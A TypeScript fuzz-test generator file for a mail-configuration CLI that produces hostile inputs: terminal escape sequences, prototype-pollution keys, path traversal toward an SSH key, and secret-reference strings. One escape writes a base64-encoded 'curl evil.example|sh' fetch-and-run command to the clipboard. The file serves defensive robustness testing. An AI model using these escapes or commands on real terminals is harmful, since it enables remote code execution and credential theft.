/**
 * Generators for the fuzz suites: hostile values, accounts built from valid, wrong-typed and hostile parts, real
 * files from test/fixtures mutated the way broken editors, generators and attackers mutate text, and input for
 * `mailcfg explain`. Every generator yields plain JSON values (strings, records), so a failing input can be saved.
 */
import { readFileSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import fc from 'fast-check';
import { PROVIDER_IDS } from '../../src/core/config/model';
import { REAL_WORLD_LINES } from '../fixtures/error-lines/real-world';

/** What a hostile repository or server puts into text that ends up on a terminal or in an editor. */
export const ESCAPES = [
	'\x1b[2J\x1b[H',
	'\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07',
	'\x1b]0;pwned\x1b\\',
	'\u009b31m',
	'\x1b[1;32m✓ all checks passed\x1b[0m',
	'\r',
	'\0',
	'\x7f',
	'\x08\x08\x08',
	'\u202e',
	'\u2066',
	'\u2028',
	'\u2029',
	'\ufeff',
	'\ud800',
] as const;

/** Keys and words that break lookups keyed by text when they read Object.prototype. */
const PROTOTYPE_WORDS = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf'] as const;

const REFERENCES = [
	'${env:AWS_SECRET_ACCESS_KEY}',
	'${env:MAILCFG_PW}',
	'${secret:IMPORT_PASSWORD}',
	'${secret:__proto__}',
	'${env:}',
	'${env:A',
	'${${env:X}}',
] as const;

/** A piece of hostile text: escapes, prototype words, references, random code units, a long run of one character. */
export const hostilePiece: fc.Arbitrary<string> = fc.oneof(
	fc.constantFrom(...ESCAPES),
	fc.constantFrom(...PROTOTYPE_WORDS),
	fc.constantFrom(...REFERENCES),
	fc.string({ unit: 'binary', maxLength: 12 }),
	fc.string({ maxLength: 12 }),
	fc
		.tuple(fc.constantFrom('A', 'é', ' ', '\\', '"', '{', '[', '#', '=', ':', '\n'), fc.integer({ min: 1, max: 3000 }))
		.map(([c, n]) => c.repeat(n)),
);

/** Hostile text: a few pieces, around a plausible value or not. */
export const hostileString: fc.Arbitrary<string> = fc
	.tuple(
		fc.constantFrom('', 'outlook.office365.com', 'user@example.com', 'tls', '993'),
		fc.array(hostilePiece, { minLength: 1, maxLength: 4 }),
	)
	.map(([base, pieces]) => base + pieces.join(''));

/** A value of the right kind or not: the valid choice, hostile text, another JSON type. */
function field<T>(valid: fc.Arbitrary<T>): fc.Arbitrary<unknown> {
	return fc.oneof(
		{ weight: 4, arbitrary: valid },
		{ weight: 2, arbitrary: hostileString },
		{
			weight: 1,
			arbitrary: fc.oneof(
				fc.constant(null),
				fc.boolean(),
				fc.integer({ min: -1, max: 70_000 }),
				fc.double(),
				fc.constant([]),
				fc.constant({}),
				fc.array(fc.string({ maxLength: 5 }), { maxLength: 3 }),
			),
		},
	);
}

const host = fc.constantFrom(
	'outlook.office365.com',
	'smtp.office365.com',
	'imap.gmail.com',
	'smtp.gmx.net',
	'127.0.0.1',
	'mail.example.invalid',
	'imaps://outlook.office365.com',
	'',
);
const security = fc.constantFrom('tls', 'starttls', 'none');
const port = fc.constantFrom(993, 143, 465, 587, 25, 0, 65_536);

const oauth2 = fc.record(
	{
		flow: field(fc.constantFrom('client-credentials', 'device-code', 'authorization-code')),
		tenant: field(fc.constantFrom('contoso.onmicrosoft.com', '11111111-2222-3333-4444-555555555555', 'common')),
		clientId: field(fc.constantFrom('aaaaaaaa-0000-4000-8000-000000000001', 'x.apps.googleusercontent.com')),
		clientSecret: field(fc.constantFrom('${env:MAILCFG_APP_SECRET}', 'literal-secret-value')),
		authority: field(
			fc.constantFrom('https://login.microsoftonline.com', 'https://evil.example.invalid', 'http://x', ''),
		),
		scopes: field(fc.array(fc.constantFrom('https://outlook.office365.com/.default', 'IMAP.AccessAsUser.All'))),
		certificate: field(
			fc.record({
				thumbprint: fc.constant('AB'.repeat(20)),
				privateKeyFile: fc.constantFrom('../../etc/ssh/id_rsa', 'key.pem'),
			}),
		),
	},
	{ requiredKeys: [] },
);

/** An account: every key optional, every value valid, wrong-typed or hostile; extra keys now and then. */
export const account: fc.Arbitrary<unknown> = fc
	.tuple(
		fc.record(
			{
				id: field(fc.constantFrom('dms-import', 'scanner', 'a', 'dms-import')),
				displayName: field(fc.string({ maxLength: 20 })),
				email: field(fc.constantFrom('import@contoso.com', 'scan@gmail.com', 'not-an-address')),
				provider: field(fc.constantFrom(...PROVIDER_IDS, 'Microsoft365')),
				mailbox: field(fc.record({ type: fc.constantFrom('user', 'shared') })),
				auth: field(
					fc.record(
						{
							method: field(fc.constantFrom('password', 'app-password', 'oauth2')),
							user: field(fc.constantFrom('import@contoso.com', 'DOMAIN\\user')),
							password: field(fc.constantFrom('${secret:IMPORT_PASSWORD}', '${env:MAILCFG_PW}', 'hunter2')),
							oauth2: field(oauth2),
						},
						{ requiredKeys: [] },
					),
				),
				imap: field(
					fc.record(
						{
							host: field(host),
							port: field(port),
							security: field(security),
							folder: field(fc.constantFrom('INBOX', 'Cubes-Import', 'Posteingang/Rechnungen')),
							afterImport: field(fc.record({ action: fc.constantFrom('keep', 'mark-read', 'move', 'delete') })),
							tls: field(
								fc.record(
									{ rejectUnauthorized: fc.boolean(), minVersion: fc.constantFrom('TLSv1', 'TLSv1.3') },
									{ requiredKeys: [] },
								),
							),
						},
						{ requiredKeys: [] },
					),
				),
				smtp: field(
					fc.record(
						{ host: field(host), port: field(port), security: field(security), from: field(fc.constantFrom('a@b.c')) },
						{ requiredKeys: [] },
					),
				),
				timeouts: field(fc.record({ connect: field(fc.integer({ min: 0, max: 600_000 })) }, { requiredKeys: [] })),
			},
			{ requiredKeys: [] },
		),
		fc.array(fc.tuple(fc.oneof(fc.constantFrom(...PROTOTYPE_WORDS), hostileString), field(fc.constant(1))), {
			maxLength: 2,
		}),
	)
	.map(([record, extra]) => {
		const out: Record<string, unknown> = {};
		for (const [key, value] of Object.entries(record)) out[key] = value;
		// defineProperty: `__proto__` must become an own key, as JSON.parse makes it, not the object's prototype
		for (const [key, value] of extra)
			Object.defineProperty(out, key, { value, enumerable: true, configurable: true, writable: true });
		return out;
	});

/** The real files of test/fixtures/<dir> (configs and other tools' files users posted), by base name. */
function fixtureFiles(dir: string): SourceInput[] {
	const root = join(__dirname, '../fixtures', dir);
	const out: SourceInput[] = [];
	const walk = (path: string) => {
		for (const entry of readdirSync(path, { withFileTypes: true })) {
			const full = join(path, entry.name);
			if (entry.isDirectory()) walk(full);
			else if (!entry.name.endsWith('.ts')) out.push({ name: entry.name, text: readFileSync(full, 'utf8') });
		}
	};
	walk(root);
	return out;
}

/** One edit of the kind that turns a file into bad input: at a relative position, so it fits any text. */
const mutation = fc.record({
	at: fc.double({ min: 0, max: 1, noNaN: true }),
	length: fc.integer({ min: 0, max: 40 }),
	insert: fc.oneof(
		hostilePiece,
		fc.constantFrom(
			'//',
			'/*',
			'*/',
			'\n',
			'\r',
			'\r\n',
			'\u2028',
			',',
			',,',
			'{',
			'}',
			'[',
			']',
			'"',
			"'",
			'\\',
			':',
			'=',
			'[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[',
			'{"a":'.repeat(50),
			'"id": "dup",',
			'//\r[[[[[[[[',
			'/*\r*/',
			'-',
			'  ',
			'\t',
			'#',
		),
		fc.constant(''),
	),
});

function mutate(text: string, edits: { at: number; length: number; insert: string }[]): string {
	let out = text;
	for (const edit of edits) {
		const at = Math.floor(edit.at * out.length);
		out = out.slice(0, at) + edit.insert + out.slice(at + edit.length);
	}
	return out;
}

/** The line terminators a file may use (the parser and the nesting guard must agree on all of them). */
const terminator = fc.constantFrom('\n', '\r\n', '\r', '\u2028');

/** Config text: generated accounts as JSONC (indented or not, line ends of every kind), or a real config, mutated. */
export const configText: fc.Arbitrary<string> = fc
	.tuple(
		fc.oneof(
			fc
				.tuple(fc.array(account, { maxLength: 6 }), fc.constantFrom(0, 1, '\t'), fc.boolean())
				.map(([accounts, indent, schema]) =>
					JSON.stringify({ ...(schema ? { $schema: './mailaccounts.schema.json' } : {}), accounts }, null, indent),
				),
			fc.constantFrom(...fixtureFiles('configs').map((f) => f.text)),
		),
		terminator,
		fc.array(mutation, { maxLength: 6 }),
	)
	.map(([text, eol, edits]) => mutate(text.replace(/\r?\n/g, eol), edits));

/** Another tool's file and the name that makes it that format. */
export interface SourceInput {
	name: string;
	text: string;
}

/** Lines of each format, valid, odd and hostile, to build new files from. */
const SOURCE_LINES: Record<string, fc.Arbitrary<string>> = {
	dotenv: fc
		.tuple(
			fc.constantFrom(
				'SMTP_HOST',
				'SMTP_PORT',
				'SMTP_USER',
				'SMTP_PASS',
				'SMTP_SECURE',
				'IMAP_HOST',
				'IMAP_PORT',
				'IMAP_PASSWORD',
				'MAIL_MAILER',
				'MAIL_HOST',
				'MAIL_ENCRYPTION',
				'EMAIL_HOST_PASSWORD',
				'export SMTP_HOST',
				'__proto__',
				'constructor',
			),
			fc.constantFrom('=', ' = ', '="', "='", ':'),
			fc.oneof(
				fc.constantFrom('smtp.office365.com', '587', 'true', 'tls', '${SMTP_HOST}', '"quoted', "'x'"),
				hostileString,
			),
		)
		.map(([k, sep, v]) => `${k}${sep}${v}`),
	spring: fc
		.tuple(
			fc.constantFrom(
				'spring.mail.host',
				'spring.mail.port',
				'spring.mail.username',
				'spring.mail.password',
				'spring.mail.protocol',
				'spring.mail.properties.mail.smtp.starttls.enable',
				'spring.mail.properties.mail.smtp.auth',
				'spring.mail.properties.__proto__',
				'spring.mail.host\\',
			),
			fc.constantFrom('=', ': ', ' '),
			fc.oneof(fc.constantFrom('smtp.office365.com', '587', 'true', 'imaps', '${MAIL_PASSWORD}'), hostileString),
		)
		.map(([k, sep, v]) => `${k}${sep}${v}`),
	postfix: fc
		.tuple(
			fc.constantFrom(
				'relayhost',
				'smtp_sasl_auth_enable',
				'smtp_sasl_password_maps',
				'smtp_tls_security_level',
				'smtp_tls_wrappermode',
				'smtpd_banner',
				'[smtp.office365.com]:587',
			),
			fc.constantFrom(' = ', '=', ' '),
			fc.oneof(
				fc.constantFrom(
					'[smtp.office365.com]:587',
					'yes',
					'encrypt',
					'hash:/etc/postfix/sasl_passwd',
					'user@contoso.com:secret',
				),
				hostileString,
			),
		)
		.map(([k, sep, v]) => `${k}${sep}${v}`),
	msmtp: fc
		.tuple(
			fc.constantFrom(
				'account',
				'host',
				'port',
				'user',
				'from',
				'tls',
				'tls_starttls',
				'auth',
				'password',
				'passwordeval',
				'defaults',
				'account default :',
			),
			fc.constantFrom(' ', '\t'),
			fc.oneof(
				fc.constantFrom('work', 'smtp.office365.com', '587', 'on', 'off', 'oauthbearer', '"gpg -d pw.gpg"'),
				hostileString,
			),
		)
		.map(([k, sep, v]) => `${k}${sep}${v}`),
	mbsync: fc
		.tuple(
			fc.constantFrom(
				'IMAPAccount',
				'IMAPStore',
				'Host',
				'Port',
				'User',
				'Pass',
				'PassCmd',
				'SSLType',
				'AuthMechs',
				'Account',
				'Channel',
				'Far',
				'Near',
			),
			fc.constantFrom(' ', '\t'),
			fc.oneof(
				fc.constantFrom('work', 'outlook.office365.com', '993', 'IMAPS', 'STARTTLS', 'XOAUTH2', ':work-remote:'),
				hostileString,
			),
		)
		.map(([k, sep, v]) => `${k}${sep}${v}`),
};

/** The name each format's generated lines are saved under (the Spring adapter reads YAML or properties by name). */
const SOURCE_NAMES = {
	dotenv: '.env',
	spring: 'application.properties',
	postfix: 'main.cf',
	msmtp: '.msmtprc',
	mbsync: '.mbsyncrc',
} as const;

/** Spring's settings as application.yml nests them. */
const springYaml = fc
	.array(
		fc.tuple(
			fc.constantFrom(
				'host',
				'port',
				'username',
				'password',
				'protocol',
				'properties.mail.smtp.starttls.enable',
				'__proto__',
			),
			fc.oneof(
				fc.constantFrom('smtp.office365.com', '587', 'true', '"quoted"', '[a, b]', '{x: 1}', '&anchor', '*alias'),
				hostileString,
			),
		),
		{ maxLength: 12 },
	)
	.map((pairs) => ['spring:', '  mail:', ...pairs.map(([k, v]) => `    ${k}: ${v}`)].join('\n'));

/** A file of one source format: generated lines or a real file of that format, mutated. */
export function sourceInput(format: keyof typeof SOURCE_NAMES): fc.Arbitrary<SourceInput> {
	const generated = fc.array(SOURCE_LINES[format]!, { maxLength: 30 }).map((lines) => ({
		name: SOURCE_NAMES[format],
		text: lines.join('\n'),
	}));
	const yaml = springYaml.map((text) => ({ name: 'application.yml', text }));
	return fc
		.tuple(
			fc.oneof(
				generated,
				...(format === 'spring' ? [yaml] : []),
				fc.constantFrom(...fixtureFiles(`sources/${format}`)),
			),
			terminator,
			fc.array(mutation, { maxLength: 6 }),
		)
		.map(([file, eol, edits]) => ({ name: file.name, text: mutate(file.text.replace(/\r?\n/g, eol), edits) }));
}

export const SOURCE_FORMAT_NAMES = Object.keys(SOURCE_NAMES) as (keyof typeof SOURCE_NAMES)[];

/** Input for `mailcfg explain`: real error lines with escapes and noise spliced in, random bytes, huge lines. */
export function explainInput(maxLine: number): fc.Arbitrary<string> {
	return fc.oneof(
		fc
			.tuple(fc.constantFrom(...REAL_WORLD_LINES.map((l) => l.line)), fc.array(mutation, { maxLength: 5 }))
			.map(([line, edits]) => mutate(line, edits)),
		fc.uint8Array({ maxLength: 2000 }).map((bytes) => Buffer.from(bytes).toString('latin1')),
		fc.string({ unit: 'binary', maxLength: 500 }),
		fc
			.tuple(
				fc.constantFrom(...REAL_WORLD_LINES.map((l) => l.line)),
				fc.integer({ min: 1, max: maxLine }),
				fc.constantFrom('A', ' ', '\x1b[', '\\n', '5.7.139 '),
			)
			.map(([line, n, unit]) => `${line} ${unit.repeat(Math.ceil(n / unit.length))}`),
	);
}
